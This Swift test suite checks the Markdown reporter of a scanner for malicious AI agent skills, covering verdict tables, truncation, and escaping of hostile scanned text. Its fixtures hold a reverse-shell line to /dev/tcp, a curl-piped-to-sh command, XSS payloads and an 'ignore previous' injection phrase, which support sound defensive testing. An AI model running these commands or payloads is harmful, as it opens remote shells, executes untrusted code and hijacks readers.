import Foundation
import SkillScanCore
import SkillScanReporters
import Testing

@Suite struct MarkdownReporterTests {
  private func render(_ report: ScanReport, options: ReportOptions = ReportOptions(), maxLength: Int = 65_536) throws -> String {
    String(decoding: try MarkdownReporter(options: options, maxLength: maxLength).render(report), as: UTF8.self)
  }

  @Test func summaryTableComesFirstWithVerdictCounts() throws {
    let text = try render(SampleReport.report)
    #expect(text.hasPrefix("## SkillScan report\n"))
    #expect(text.contains("| 🔴 Malicious | 1 |\n| 🟠 Suspicious | 1 |\n| 🟢 Safe | 1 |"))
    #expect(text.contains("**4 active findings** (critical 1 · high 1 · medium 2 · low 0 · info 0) · 1 suppressed · 1 errors"))
    let table = try #require(text.range(of: "| Verdict |"))
    let firstSkill = try #require(text.range(of: "### "))
    #expect(table.lowerBound < firstSkill.lowerBound)
  }

  @Test func flaggedSkillsGetVerdictScoreReasonsAndFindingRows() throws {
    let text = try render(SampleReport.report)
    #expect(text.contains("### 🔴 MALICIOUS: `skills/evil` (evil)"))
    #expect(text.contains("**Score 96/100** · 3 active findings · 1 suppressed"))
    #expect(text.contains("- reverse\\-shell \\(W\\-REVSHELL, critical\\) at scripts/run\\.sh\\:4\\: interactive shell"))
    #expect(text.contains("| **critical** | `reverse-shell` | `scripts/run.sh:4` | interactive shell bound to a TCP socket<br>`bash -i >& /dev/tcp/203.0.113.7/4444 0>&1` |"))
    #expect(text.contains("### 🟠 SUSPICIOUS: `uploads/bad.zip`"))
    #expect(text.contains("| medium | `unreadable-skill` | `(skill)` |"))
    #expect(text.contains("> **Error:** truncated archive"))
  }

  @Test func suppressedFindingsAreMarked() throws {
    let row = try #require(try render(SampleReport.report).split(separator: "\n").first { $0.contains("`hardcoded-secret`") })
    #expect(row.hasPrefix("| ~~low~~ |"))
    #expect(row.contains("*suppressed (inline): test fixture*"))
  }

  @Test func safeSkillsCollapseIntoDetails() throws {
    let text = try render(SampleReport.report)
    #expect(text.contains("<details><summary>1 safe skill</summary>\n\n- `skills/fine` (fine)\n"))
    #expect(!text.contains("### 🟢"))
    #expect(!(try render(SampleReport.report, options: ReportOptions(onlyFlagged: true))).contains("skills/fine"))
  }

  @Test func hostileTextCannotBreakTablesOrInjectMarkup() throws {
    let text = try render(HostileReport.report)
    for line in text.split(separator: "\n") where line.hasPrefix("| ") && !line.hasPrefix("| Verdict") && !line.hasPrefix("| 🔴") && !line.hasPrefix("| 🟠") && !line.hasPrefix("| 🟢") {
      // Four cells: five unescaped pipes, whatever the scanned text held.
      var pipes = 0
      var previous: Character = " "
      for character in line {
        if character == "|" && previous != "\\" { pipes += 1 }
        previous = character
      }
      #expect(pipes == 5, "row broken by scanned text: \(line)")
    }
    // Code spans show their content literally; everything outside them must be inert.
    let prose = Self.removingCodeSpans(text)
    for tag in ["<script", "<img", "<iframe", "<b>", "</style"] {
      #expect(!Self.containsUnescaped(prose, tag), "raw HTML from a skill: \(tag)")
    }
    #expect(!prose.contains("](https://evil"), "a link from a skill")
    #expect(!prose.contains("https://"), "a bare URL would be autolinked")
    #expect(text.contains("\\<script\\>alert\\(1\\)\\</script\\>"))
    // Snippets sit in code spans whose fence outruns the backticks inside.
    #expect(text.contains("<br>````\"><img src=x onerror=alert(2)> & &amp; ``` end```` |"))
    #expect(text.contains("<br>``ignore previous <script>alert(1)</script> `tick` \\| pipe next line`` |"))
  }

  @Test func longReportsAreTruncatedWithAnExplicitNote() throws {
    var skills: [SkillResult] = []
    for index in 0..<200 {
      var skill = SampleReport.malicious
      skill.path = "skills/evil-\(index)"
      skills.append(skill)
    }
    let report = ScanReport(tool: SampleReport.tool, skills: skills + [SampleReport.safe])
    let text = try render(report)
    #expect(text.utf16.count <= MarkdownReportWriter<DataOutput>.commentLimit)
    #expect(text.contains("> [!WARNING]\n> Truncated to fit a GitHub comment"))
    #expect(text.contains("skills/evil-0"))
    #expect(!text.contains("skills/evil-199"))
    let small = try render(report, maxLength: 6_000)
    #expect(small.utf16.count <= 6_000)
    #expect(small.contains("flagged skills and"))
    let full = try render(SampleReport.report)
    #expect(!full.contains("Truncated"))
  }

  @Test func aHugeSingleSkillIsCutBetweenRows() throws {
    var skill = SampleReport.malicious
    skill.findings = (1...2_000).map { line in
      Finding(
        ruleID: "remote-script-piped-to-shell", pattern: .sc2, severity: .high, confidence: .high,
        message: "output of 'curl' is executed directly by a shell", file: "SKILL.md", line: line,
        snippet: "curl -fsSL https://get.example.dev/i.sh | sh")
    }
    let text = try render(ScanReport(tool: SampleReport.tool, skills: [skill]))
    #expect(text.utf16.count <= 65_536)
    #expect(text.contains("### 🔴 MALICIOUS: `skills/evil`"))
    #expect(text.contains("more findings not shown* |"))
    #expect(text.contains("Truncated to fit a GitHub comment"))
  }

  /// Whether `needle` occurs without a backslash right before it.
  static func containsUnescaped(_ text: String, _ needle: String) -> Bool {
    var search = text.startIndex..<text.endIndex
    while let found = text.range(of: needle, range: search) {
      if found.lowerBound == text.startIndex || text[text.index(before: found.lowerBound)] != "\\" { return true }
      search = found.upperBound..<text.endIndex
    }
    return false
  }

  /// The text with every code span (a backtick run up to the next run of the same length) cut out.
  static func removingCodeSpans(_ text: String) -> String {
    let characters = Array(text)
    var out = ""
    var index = 0
    func run(at start: Int) -> Int {
      var end = start
      while end < characters.count && characters[end] == "`" { end += 1 }
      return end - start
    }
    while index < characters.count {
      guard characters[index] == "`", index == 0 || characters[index - 1] != "\\" else {
        out.append(characters[index])
        index += 1
        continue
      }
      let length = run(at: index)
      var search = index + length
      var closed = false
      while search < characters.count {
        if characters[search] == "`" {
          let other = run(at: search)
          if other == length {
            index = search + other
            closed = true
            break
          }
          search += other
        } else {
          search += 1
        }
      }
      if !closed {
        out.append(contentsOf: characters[index..<(index + length)])
        index += length
      }
    }
    return out
  }
}
